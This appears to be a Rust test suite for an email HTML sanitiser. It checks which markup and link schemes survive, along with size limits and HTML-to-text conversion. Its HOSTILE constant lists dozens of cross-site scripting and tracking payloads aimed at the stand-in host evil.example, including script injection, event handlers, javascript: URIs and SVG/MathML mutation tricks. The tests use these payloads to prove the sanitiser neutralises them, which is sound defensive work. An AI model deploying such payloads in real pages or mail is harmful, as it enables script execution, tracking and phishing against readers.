//! What may and what may not come out of the sanitiser.

use super::*;

fn resolve(content_id: &str) -> Option<String> {
    (content_id == "logo@x").then(|| "/files/7?sig=a&x=b".to_owned())
}

fn cleaned(html: &str) -> String {
    clean(html, &resolve).unwrap().html
}

#[test]
fn r44_what_a_reader_needs_is_kept() {
    for (sentence, html, expected) in [
        (
            "words and marks",
            "<p>a <b>b</b> <i>c</i> &amp; &lt;d&gt;</p>",
            "<p>a <b>b</b> <i>c</i> &amp; &lt;d&gt;</p>",
        ),
        (
            "lists",
            "<ul><li>a</li><li>b</li></ul>",
            "<ul><li>a</li><li>b</li></ul>",
        ),
        (
            "tables with their measures",
            "<table width=100% border=0><tr><td colspan=2 width=50 align=right>a</td></tr></table>",
            "<table width=\"100%\" border=\"0\"><tbody><tr><td colspan=\"2\" width=\"50\" align=\"right\">a</td></tr></tbody></table>",
        ),
        (
            "quotes",
            "<blockquote>a</blockquote>",
            "<blockquote>a</blockquote>",
        ),
        (
            "direction and language",
            "<p dir=rtl lang=he>שלום</p>",
            "<p dir=\"rtl\" lang=\"he\">שלום</p>",
        ),
        (
            "the text of unknown elements",
            "<center><font color=red>a</font></center>",
            "<center>a</center>",
        ),
        (
            "preformatted text",
            "<pre>a\n  b</pre>",
            "<pre>a\n  b</pre>",
        ),
        (
            "the words of an image",
            "<img alt='our logo' src=x.png>",
            "<img alt=\"our logo\">",
        ),
        (
            "inline images",
            "<img src=cid:logo@x>",
            "<img src=\"/files/7?sig=a&amp;x=b\">",
        ),
        (
            "images elsewhere, not loaded",
            "<img src=https://x/y.png>",
            "<img data-remote-src=\"https://x/y.png\">",
        ),
    ] {
        assert_eq!(cleaned(html), expected, "{sentence}");
    }
}

#[test]
fn r44_preformatted_text_keeps_the_line_ends_that_it_begins_with() {
    for (sentence, html, expected) in [
        (
            "one belongs to the tag",
            "<pre>\n  a</pre>",
            "<pre>  a</pre>",
        ),
        (
            "a second one is text",
            "<pre>\n\na</pre>",
            "<pre>\n\na</pre>",
        ),
        (
            "as mail writes it",
            "<pre lang=de>\r\n\r\na</pre>",
            "<pre lang=\"de\">\n\na</pre>",
        ),
        (
            "so is one behind an element that is left out",
            "<pre></noscript>\n<<form><button><script></style>]]>",
            "<pre>\n\n&lt;</pre>",
        ),
        (
            "or behind a comment",
            "<pre><!-- b -->\na</pre>",
            "<pre>\n\na</pre>",
        ),
        (
            "a title that looks like the tag is a title",
            "<pre title='<pre>\na'>b</pre>",
            "<pre title=\"<pre>\na\">b</pre>",
        ),
    ] {
        let clean_html = cleaned(html);
        let same = |html: &str| html.replace("&lt;pre&gt;", "<pre>");
        assert_eq!(same(&clean_html), expected, "{sentence}");
        assert_eq!(cleaned(&clean_html), clean_html, "{sentence}");
    }
}

#[test]
fn r44_links_lead_where_links_may_lead() {
    for (sentence, address, is_kept) in [
        ("the web", "https://x.example/a?b=c&amp;d=e#f", true),
        (
            "the web without encryption, in any case",
            "HTTP://X.example",
            true,
        ),
        ("mail", "mailto:a@x.example?subject=b", true),
        ("telephone", "tel:+49-30-1", true),
        ("an @ behind the host", "https://x.example/@user", true),
        ("no scripts", "javascript:alert(1)", false),
        ("not in disguise", "java&#10;script:alert(1)", false),
        ("nor with spaces before", " &#1;javascript:alert(1)", false),
        ("nor by name", "javascript&colon;alert(1)", false),
        ("nor in capitals", "JaVaScRiPt:alert(1)", false),
        ("no scripts of old", "vbscript:x", false),
        ("no data", "data:text/html,<script>alert(1)</script>", false),
        ("no files", "file:///etc/passwd", false),
        ("no parts of the mail", "cid:logo@x", false),
        ("no place of ours", "/files/7?sig=a&amp;x=b", false),
        ("no relative place", "page.html", false),
        ("no place on a scheme unsaid", "//evil.example", false),
        ("no backslashes", "https:\\\\evil.example", false),
        ("no scheme without a host", "https:evil", false),
        (
            "no host behind a false one",
            "https://good.example@evil.example/",
            false,
        ),
        (
            "a host that ends at a backslash",
            "https://good.example\\@evil.example/",
            true,
        ),
        ("no other apps", "skype:evil", false),
    ] {
        let html = cleaned(&format!("<a href=\"{address}\">x</a>"));
        assert_eq!(html.contains("href"), is_kept, "{sentence}: {html}");
        let is_marked = html.contains("rel=\"noopener noreferrer nofollow\"")
            && html.contains("target=\"_blank\"")
            && html.ends_with(">x</a>");
        assert!(
            if is_kept { is_marked } else { html == "x" },
            "{sentence}: {html}"
        );
    }
}

/// Each is a way by which a mail has run code, loaded something, or drawn over the page, somewhere.
const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script >",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x alt=a onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)//>",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<img src=`x` onerror=`alert(1)`>",
    "<img src=javascript:alert(1)>",
    "<img src=data:image/svg+xml;base64,PHN2Zy8+>",
    "<img srcset='https://evil.example/x 2x' alt=a>",
    "<img src=cid:logo@x srcset=https://evil.example/x>",
    "<img lowsrc=https://evil.example/x dynsrc=https://evil.example/x alt=a>",
    "<img longdesc=https://evil.example/x usemap=#x alt=a>",
    "<input type=image src=https://evil.example/x>",
    "<picture><source srcset=https://evil.example/x><img src=x></picture>",
    "<video src=https://evil.example/x poster=https://evil.example/y autoplay></video>",
    "<audio src=https://evil.example/x autoplay onplay=alert(1)></audio>",
    "<body background=https://evil.example/x onload=alert(1)>a</body>",
    "<table background=https://evil.example/x><tr><td background=https://evil.example/y>a</td></tr></table>",
    "<p style='background:url(https://evil.example/x)'>a</p>",
    "<p style='position:fixed;top:0;left:0;width:100%;height:100%'>a</p>",
    "<p style='width:expression(alert(1))'>a</p>",
    "<style>@import url(https://evil.example/x); * { background: url(https://evil.example/y) }</style>a",
    "<style><!--</style><img src=x onerror=alert(1)>-->",
    "<link rel=stylesheet href=https://evil.example/x>",
    "<link rel=dns-prefetch href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/><a href=x>a</a><img src=y>",
    "<form action=https://evil.example><input name=password><button formaction=javascript:alert(1)>a</button></form>",
    "<isindex action=javascript:alert(1) type=image>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=https://evil.example/x></object>",
    "<embed src=https://evil.example/x>",
    "<applet code=x archive=https://evil.example/x></applet>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><image href=https://evil.example/x /></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>",
    "<svg><set attributeName=onmouseover to=alert(1) /></svg>",
    "<svg><feImage href=https://evil.example/x /></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math href=javascript:alert(1)>a</math>",
    "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id='</textarea><img onerror=alert(1) src=1>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<title><img src=x onerror=alert(1)></title>",
    "<textarea><script>alert(1)</script></textarea>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<noembed><img src=x onerror=alert(1)></noembed>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>",
    "<select><option><img src=x onerror=alert(1)></option></select>",
    "<frameset onload=alert(1)><frame src=https://evil.example></frameset>",
    "<marquee onstart=alert(1)>a</marquee>",
    "<details open ontoggle=alert(1)>a</details>",
    "<dialog open>a</dialog>",
    "<a href=x ping=https://evil.example>a</a>",
    "<a href=https://x.example target=_self rel=opener onclick=alert(1)>a</a>",
    "<p onclick=alert(1) onmouseover='alert(1)' ONFOCUS=alert(1) tabindex=1 autofocus>a</p>",
    "<p id=top name=x class=y contenteditable accesskey=x>a</p>",
    "<div hidden is=x slot=y part=z>a</div>",
    "<blockquote cite=https://evil.example/x>a</blockquote><q cite=javascript:x>b</q><del cite=javascript:x>c</del>",
    "<bgsound src=https://evil.example/x>",
    "<layer src=https://evil.example/x></layer>",
    "<xml id=x><i><b>&lt;img src=x onerror=alert(1)&gt;</b></i></xml>",
    "<?xml-stylesheet href=https://evil.example/x?>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<!doctype html [<!ENTITY x SYSTEM 'https://evil.example/x'>]>&x;",
    "<p title=\"--><script>alert(1)</script>\">a</p>",
    "<img alt='\"><script>alert(1)</script>' src=x>",
    "<custom-element onclick=alert(1)>a</custom-element>",
    "<img src='https://evil.example/x' data-remote-src='javascript:alert(1)' data-x=y alt=a>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u{0}<scr\u{0}ipt>alert(1)</script>",
    "<a href=\"jav&#x09;ascript:alert(1)\">a</a><a href=\" &#14; javascript:alert(1)\">b</a>",
    "<table><td><form><table><td></form><img src=x onerror=alert(1)>",
    "<a href='https://x.example'><table><tr><td></a><img src=x onerror=alert(1)></td></tr></table>",
];

/// Tags and attributes of clean HTML, by a reader that knows only how clean HTML is written.
fn tags(html: &str) -> Vec<(String, Vec<(String, String)>)> {
    tokens(html)
        .filter_map(|token| match token {
            Token::Open(tag) => {
                let attributes = tag
                    .attributes
                    .iter()
                    .map(|(name, value)| (name.to_string(), decode(value).into_owned()));
                Some((tag.name.to_string(), attributes.collect()))
            }
            Token::Text(_) | Token::Close(_) => None,
        })
        .collect()
}

/// Says what is wrong with clean HTML.
fn fault(html: &str) -> Option<String> {
    for (tag, attributes) in tags(html) {
        if !EMPTY
            .iter()
            .chain(&INLINE)
            .chain(&BLOCK)
            .chain(&TABLE)
            .any(|known| *known == tag)
        {
            return Some(format!("the element {tag}"));
        }
        for (name, value) in attributes {
            let is_right = match name.as_str() {
                "src" => tag == "img" && resolve("logo@x").is_some_and(|address| address == value),
                "href" => tag == "a" && is_link(&value),
                REMOTE_SRC => tag == "img" && is_web_address(&value),
                "rel" => value == LINK_REL,
                "target" => value == "_blank",
                name => {
                    ATTRIBUTES_OF_ALL.contains(&name)
                        || ATTRIBUTES
                            .iter()
                            .any(|(element, names)| *element == tag && names.contains(&name))
                }
            };
            if !is_right {
                return Some(format!("{tag} {name}={value}"));
            }
        }
    }
    None
}

#[test]
fn r44_hostile_html_comes_out_harmless() {
    for hostile in HOSTILE {
        for html in [
            (*hostile).to_owned(),
            format!("<p>before {hostile} after</p>"),
            format!("<table><tr><td>{hostile}"),
        ] {
            let clean_html = cleaned(&html);
            assert_eq!(fault(&clean_html), None, "{html}\n{clean_html}");
            // What is shown must mean the same when it is read once more.
            assert_eq!(
                cleaned(
                    &clean_html
                        .replace("data-remote-src", "src")
                        .replace("/files/7?sig=a&amp;x=b", "cid:logo@x")
                ),
                clean_html,
                "{html}"
            );
        }
    }
}

#[test]
fn r44_hostile_html_in_pieces_comes_out_harmless() {
    // Every vector cut at every character and joined with every other one's head: what the reader and the parser
    // might cut differently.
    for (index, hostile) in HOSTILE.iter().enumerate() {
        let other = HOSTILE[(index + 7) % HOSTILE.len()];
        for (at, _) in hostile.char_indices() {
            let html = format!("{}{other}", upto(hostile, at));
            let clean_html = cleaned(&html);
            assert_eq!(fault(&clean_html), None, "{html}\n{clean_html}");
        }
    }
}

#[test]
fn r44_too_much_html_is_left_to_plain_text() {
    for (sentence, html, is_shown) in [
        ("up to 1 MB is shown", "x".repeat(HTML_BYTES_MAX), true),
        ("more is not", "x".repeat(HTML_BYTES_MAX + 1), false),
        ("deep nesting is not", "<div>".repeat(20_000), false),
        ("nor are deep quotes", "<blockquote>".repeat(600), false),
        (
            "a long newsletter is shown",
            "<table><tr><td><p>a<br><b>b</b></p></td></tr></table>".repeat(3_000),
            true,
        ),
    ] {
        assert_eq!(clean(&html, &|_| None).is_some(), is_shown, "{sentence}");
    }
}

#[test]
fn r44_images_held_back_are_counted() {
    let html = "<img src=https://x/1><img src=//x/2><img src=cid:logo@x><img src=x.png>";
    assert_eq!(clean(html, &resolve).unwrap().remote_images, 2);
}

#[test]
fn r40_html_is_read_as_text() {
    for (sentence, html, expected) in [
        (
            "words",
            "<p>Hello&nbsp;<b>you</b>,\n  there &amp; here</p>",
            "Hello you, there & here",
        ),
        ("paragraphs stand apart", "<p>a</p><p>b</p>", "a\n\nb"),
        (
            "blocks stand on their own lines",
            "<div>a</div><div>b</div>c",
            "a\nb\nc",
        ),
        (
            "line breaks are kept, many are two",
            "a<br>b<br><br><br>c",
            "a\nb\n\nc",
        ),
        ("lists have marks", "<ul><li>a<li>b</ul>c", "- a\n- b\n\nc"),
        (
            "cells stand side by side",
            "<table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table>",
            "a b\nc",
        ),
        (
            "quotes are marked",
            "a<blockquote>b<br>c<blockquote>d</blockquote></blockquote>e",
            "a\n> b\n> c\n> > d\ne",
        ),
        (
            "preformatted text keeps its lines",
            "<pre>a\n  b\n\nc</pre>d",
            "a\n  b\n\nc\nd",
        ),
        (
            "scripts, styles and titles are not words",
            "<title>t</title><style>s</style>a<script>x</script>b",
            "ab",
        ),
        (
            "marks inside words don't part them",
            "S<sub>2</sub>O",
            "S2O",
        ),
        ("a comment is nothing", "a<!-- b -->c", "ac"),
        ("nothing is nothing", "<div> &nbsp; </div>", ""),
    ] {
        assert_eq!(text_of_html(html), expected, "{sentence}");
    }
}

#[test]
fn r40_text_is_shown_as_html() {
    let link = |address: &str| {
        format!(
            "<a href=\"{address}\" target=\"_blank\" rel=\"{LINK_REL}\">{}</a>",
            address.trim_start_matches("mailto:")
        )
    };
    for (sentence, text, expected) in [
        ("marks are escaped", "a <b> & \"c\" 'd'", "a &lt;b&gt; &amp; &quot;c&quot; &#39;d&#39;".to_owned()),
        ("lines are kept", "a\r\nb\n\nc\n", "a<br>b<br><br>c".to_owned()),
        ("indents are kept", "  a   b", "&nbsp;&nbsp;a &nbsp;&nbsp;b".to_owned()),
        ("quotes nest", "a\n> b\n>> c\n> d\ne", "a<blockquote>b<blockquote>c</blockquote>d</blockquote>e".to_owned()),
        ("an open quote is closed", "> a", "<blockquote>a</blockquote>".to_owned()),
        ("addresses are links", "see https://x.example/a?b=1.", format!("see {}.", link("https://x.example/a?b=1"))),
        ("in brackets too", "(https://x.example/a_(b)) <https://x.example>", format!("({}) &lt;{}&gt;", link("https://x.example/a_(b)"), link("https://x.example"))),
        ("with & in them", "http://x/?a&b", "<a href=\"http://x/?a&amp;b\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">http://x/?a&amp;b</a>".to_owned()),
        ("mail addresses are links", "<a.b+c@x.example>,", format!("&lt;{}&gt;,", link("mailto:a.b+c@x.example"))),
        ("scripts are not", "javascript:alert(1) @ x@y https://", "javascript:alert(1) @ x@y https://".to_owned()),
        ("nor are hosts behind false ones", "https://a@evil.example", "https://a@evil.example".to_owned()),
    ] {
        assert_eq!(html_of_text(text), expected, "{sentence}");
        assert_eq!(fault(&html_of_text(text)), None, "{sentence}");
    }
    for hostile in HOSTILE {
        assert_eq!(fault(&html_of_text(hostile)), None, "{hostile}");
    }
}

#[test]
fn texts_of_any_length_are_read_and_shown() {
    let long = "é".repeat(TEXT_BYTES_MAX);
    assert_eq!(text_of_html(&long).len(), TEXT_BYTES_MAX);
    assert!(html_of_text(&long).ends_with("<br>…"));
    assert_eq!(
        html_of_text(&">".repeat(10_000))
            .matches("<blockquote>")
            .count(),
        QUOTE_DEPTH_MAX
    );
}

/// Pieces that tags, tables, marks and hostile mails are made of.
const PIECES: &[&str] = &[
    "<p>",
    "</p>",
    "<div>",
    "</div>",
    "<b>",
    "</b>",
    "<i>",
    "</i>",
    "<a href=https://x>",
    "<a href=javascript:x>",
    "</a>",
    "<table>",
    "</table>",
    "<tbody>",
    "<tr>",
    "</tr>",
    "<td>",
    "</td>",
    "<th>",
    "<caption>",
    "<col>",
    "<colgroup>",
    "<ul>",
    "</ul>",
    "<li>",
    "</li>",
    "<dl>",
    "<dd>",
    "<dt>",
    "<h1>",
    "</h2>",
    "<pre>",
    "</pre>",
    "<blockquote>",
    "</blockquote>",
    "<br>",
    "</br>",
    "<hr>",
    "<img src=cid:logo@x>",
    "<img src=https://x onerror=y>",
    "<svg>",
    "</svg>",
    "<math>",
    "<mi>",
    "<style>",
    "</style>",
    "<script>",
    "</script>",
    "<form>",
    "</form>",
    "<select>",
    "</select>",
    "<option>",
    "<button>",
    "<template>",
    "</template>",
    "<textarea>",
    "</textarea>",
    "<title>",
    "</title>",
    "<noscript>",
    "</noscript>",
    "<iframe>",
    "<body onload=x>",
    "<html>",
    "<head>",
    "<!--",
    "-->",
    "<![CDATA[",
    "]]>",
    "<",
    ">",
    "\"",
    "'",
    "=",
    "/",
    "&",
    "&lt;",
    "&#60;",
    "&amp;",
    "\u{0}",
    "\u{a0}",
    "é",
    "a",
    " ",
    "\n",
];

proptest::proptest! {
    #[test]
    fn r44_any_html_comes_out_harmless(picks in proptest::collection::vec(0..PIECES.len(), 0..40)) {
        let html: String = picks.iter().map(|pick| PIECES[*pick]).collect();
        let clean_html = cleaned(&html);
        assert_eq!(fault(&clean_html), None, "{html}\n{clean_html}");
        let again = clean_html.replace("data-remote-src", "src").replace("/files/7?sig=a&amp;x=b", "cid:logo@x");
        assert_eq!(cleaned(&again), clean_html, "{html}");
        let text = text_of_html(&html);
        assert_eq!(fault(&html_of_text(&text)), None, "{text}");
        assert!(crate::view::preview(&text).chars().count() <= crate::view::PREVIEW_CHARS_MAX);
    }
}
